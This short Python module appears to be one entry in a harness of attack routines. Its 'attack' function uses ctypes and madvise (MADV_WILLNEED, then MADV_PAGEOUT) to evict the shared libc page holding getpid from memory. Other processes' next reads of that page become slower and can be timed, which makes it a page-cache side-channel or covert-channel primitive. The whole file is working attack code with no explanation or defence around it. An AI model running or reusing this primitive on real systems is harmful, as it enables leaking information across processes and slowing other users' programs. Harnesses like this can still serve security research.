"""Push a page of a file that everybody has mapped out of memory: whoever reads it next waits longer, and counts that."""

GOAL = "reach"
WILL_NEED, PAGE_OUT = 3, 21


def attack(world):
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    page = ctypes.c_void_p(ctypes.cast(libc.getpid, ctypes.c_void_p).value & -65536)
    size = ctypes.c_size_t(65536)
    return [advice for advice in (WILL_NEED, PAGE_OUT) if libc.madvise(page, size, advice) == 0]
